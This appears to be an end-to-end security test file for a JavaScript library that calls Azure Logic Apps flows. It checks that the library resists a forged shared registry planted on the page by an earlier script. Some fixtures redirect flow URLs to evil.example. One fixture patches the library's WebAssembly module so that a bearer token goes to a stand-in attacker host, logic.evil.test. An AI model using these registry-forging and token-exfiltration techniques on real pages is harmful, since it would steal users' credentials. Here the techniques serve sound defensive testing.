/** A script that was there first and forged what copies of the library share: it is told no secret, and is worth a URL. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { e2e, patient, sandbox, stage } from "./stage.mjs";

stage();

/** In the page: another copy of the library over a registry that the text makes; `seen` has all that it was given. */
const callOver = (source, options) =>
  e2e.run(
    async ([text, flow, given]) => {
      const frame = document.createElement("iframe");
      frame.src = "/e2e/blank.html";
      const loaded = new Promise((done) => {
        frame.onload = done;
      });
      document.body.append(frame);
      await loaded;
      const page = frame.contentWindow;
      const seen = [];
      const note = (...all) =>
        seen.push(JSON.stringify(all.map((one) => (typeof one === "string" ? one : typeof one))));
      const forged = new Function("note", "page", `return ${text}`)(note, page);
      // The form's window is where copies look; a frame that names itself the top one has its own.
      Object.defineProperty(window, "entra-flow/page/1", { value: forged, configurable: true });
      const script = page.document.createElement("script");
      script.src = "/e2e/entra-flow.global.js";
      const ran = new Promise((done) => {
        script.onload = done;
      });
      page.document.head.append(script);
      await ran;
      const auth = await window.e2e.msal();
      const outcome = await window.e2e.settle(async () => {
        const client = await page.EntraFlow.FlowClient.fromXrm(auth, {
          interaction: "none",
          ...given,
        });
        const { status } = await client.flow(flow).invoke({ order: 7 });
        await client.flow(flow).invoke({ order: 8 });
        client.clearCache();
        return status;
      });
      return { ...outcome, seen };
    },
    [source, e2e.id(options?.flow ?? "echo"), options?.client],
  );

const map = (extra = "") => `{
    get: (...all) => { note("get", ...all); ${extra} },
    set: (...all) => note("set", ...all),
    delete: (...all) => note("delete", ...all),
    clear: () => note("clear"),
  }`;
const forgeries = {
  "that notes everything": `({ urls: ${map()}, flights: ${map()}, epoch: 0 })`,
  "that is frozen": `Object.freeze({ urls: Object.freeze(new Map()), flights: Object.freeze(new Map()), epoch: 0 })`,
  "that is null": "null",
  "that is a number": "7",
  "that is empty": "({})",
  "that throws at everything": `new Proxy({}, { get: () => { throw new Error("get"); }, set: () => { throw new Error("set"); } })`,
  "whose maps throw": `({ get urls() { throw 1; }, get flights() { throw 2; }, get epoch() { throw 3; } })`,
  "that counts no epochs": `({ urls: new Map(), flights: new Map(), epoch: NaN })`,
  "whose epoch runs": `({ urls: new Map(), flights: new Map(), get epoch() { return performance.now(); } })`,
  "that has another URL for everything": `({ urls: ${map(
    'return "https://evil.example/workflows/1/triggers/manual/paths/invoke";',
  )}, flights: new Map(), epoch: 0 })`,
  "that has an object for every URL": `({ urls: ${map(
    'return { toString: () => "https://evil.example/", toJSON: () => "https://evil.example/" };',
  )}, flights: new Map(), epoch: 0 })`,
};

for (const [name, source] of Object.entries(forgeries)) {
  test(`a registry ${name}`, patient, async () => {
    e2e.sandbox.page(sandbox.world.orgs.contoso.host, "/e2e/blank.html", {
      body: "<!doctype html>",
    });
    const { value, error } = await callOver(source);
    assert.equal(error, undefined, JSON.stringify(error));
    assert.equal(value.error, undefined, JSON.stringify(value.error));
    assert.equal(value.value, 200);
    e2e.secrets.write("told to the registry", value.seen.join("\n"));
    assert.equal(sandbox.runs.length, 2);
  });
}

test("a signature is not told to it either", patient, async () => {
  e2e.sandbox.page(sandbox.world.orgs.contoso.host, "/e2e/blank.html", { body: "<!doctype html>" });
  const noting = forgeries["that notes everything"];
  const { value } = await callOver(noting, { flow: "anyone", client: { sas: "allow" } });
  assert.equal(value.value, 200, JSON.stringify(value));
  assert.ok(value.seen.length > 0, "it was asked");
  e2e.secrets.write("told to the registry", value.seen.join("\n"));
});

test(
  "a flight that somebody else announced is told nothing, and nobody waits for it for long",
  patient,
  async () => {
    const { ms, value } = await e2e.run(async (flow) => {
      const client = await window.e2e.client();
      await client.flow(flow).callbackUrl();
      const { urls, flights } = window["entra-flow/page/1"];
      const [key] = urls.keys();
      urls.clear();
      const seen = [];
      flights.set(key, {
        document: { defaultView: {} },
        landed: new Promise(() => undefined),
        land: (...all) => seen.push(all),
      });
      // It hangs for ten seconds at most, which is the price of sharing; see docs/security.md.
      const { status } = await client.flow(flow).invoke({}, { timeoutMs: 20_000 });
      return { status, seen };
    }, e2e.id("echo"));
    assert.deepEqual(value, { status: 200, seen: [] });
    assert.ok(ms < 13_000, `${ms} ms`);
  },
);

/** Our own module, but that another host is the flow service's; and where it then lets a token go. */
const planted = Buffer.from(
  readFileSync(new URL("../../dist/entra-flow.wasm", import.meta.url))
    .toString("latin1")
    .replaceAll("logic.azure.com", "logic.evil.test"),
  "latin1",
);
const evil = {
  host: "prod-1.westeurope.logic.evil.test",
  path: `/workflows/${"ab".repeat(16)}/triggers/manual/paths/invoke`,
};
const evilUrl = `https://${evil.host}${evil.path}?api-version=2016-06-01`;

/** Serves the planted module and `slim.js`, and listens at the host that the module takes for the service's. */
function plant() {
  const { host } = sandbox.world.orgs.contoso;
  const slim = readFileSync(new URL("../../dist/slim.js", import.meta.url), "utf8");
  e2e.sandbox.page(host, "/e2e/planted.wasm", { body: planted });
  e2e.sandbox.page(host, "/e2e/slim.js", { body: slim });
  const heard = [];
  const allowed = { origin: "*", headers: "authorization, content-type" };
  e2e.sandbox.page(evil.host, evil.path, {
    headers: Object.fromEntries(
      Object.entries(allowed).map(([name, value]) => [`access-control-allow-${name}`, value]),
    ),
    handler(request, response) {
      if (request.method !== "OPTIONS") heard.push(request.headers.authorization);
      response.setHeader("content-type", "application/json");
      response.end("{}");
    },
  });
  return heard;
}

/** In the page: calls over a registry that has the module under every name, compiled, and its host's URL for every flow. */
async function callOverPlanted([flow, url, { slim, token }]) {
  const module = await WebAssembly.compileStreaming(fetch("/e2e/planted.wasm"));
  const entry = { document, module, compiling: Promise.resolve(module) };
  const found = (value) => ({
    get: () => value,
    has: () => true,
    set() {},
    delete() {},
    clear() {},
  });
  const members = { urls: found(url), flights: new Map(), epoch: 0 };
  Object.defineProperty(window, "entra-flow/page/1", {
    value: new Proxy(members, { get: (own, name) => own[name] ?? found(entry) }),
  });
  const library = slim ? await import("/e2e/slim.js") : window.EntraFlow;
  if (slim) await library.init(slim === "planted" ? module : "/e2e/entra-flow.wasm");
  const client = await library.FlowClient.create({
    ...window.hostile.parts,
    ...(token && { auth: { getToken: async () => token } }),
    loginHint: "ada@contoso.example",
  });
  return (await client.flow(flow).invoke({ order: 7 })).status;
}

test("a module planted for copies to share would let a token go", patient, async () => {
  const heard = plant();
  const given = { slim: "planted", token: "a.made-up.token" };
  await e2e.get(callOverPlanted, [e2e.id("echo"), evilUrl, given]);
  assert.deepEqual(heard, ["Bearer a.made-up.token"]);
  sandbox.requests.length = 0;
});

for (const [name, given] of [
  ["the library", {}],
  ["entra-flow/slim", { slim: "ours" }],
]) {
  test(`and is never taken by ${name}, nor is its host's URL`, patient, async () => {
    const heard = plant();
    const body = readFileSync(new URL("../../dist/entra-flow.wasm", import.meta.url));
    e2e.sandbox.page(sandbox.world.orgs.contoso.host, "/e2e/entra-flow.wasm", { body });
    assert.equal(await e2e.get(callOverPlanted, [e2e.id("echo"), evilUrl, given]), 200);
    assert.equal(heard.length, 0, "a token went to the planted module's host");
    assert.equal(sandbox.runs.length, 1);
  });
}
